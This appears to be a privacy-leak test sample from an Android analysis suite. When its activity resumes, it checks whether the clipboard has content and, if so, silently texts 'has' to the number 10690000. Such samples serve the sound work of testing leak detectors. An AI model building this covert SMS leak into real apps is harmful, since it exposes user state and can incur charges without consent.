package cn.privlens.suite.clipboard_has_only;

import android.app.Activity;
import android.content.ClipboardManager;
import android.telephony.SmsManager;

public class Main extends Activity {
    @Override
    protected void onResume() {
        super.onResume();
        ClipboardManager clip = (ClipboardManager) getSystemService(CLIPBOARD_SERVICE);
        if (clip.hasPrimaryClip()) {
            SmsManager.getDefault().sendTextMessage("10690000", null, "has", null, null);
        }
    }
}
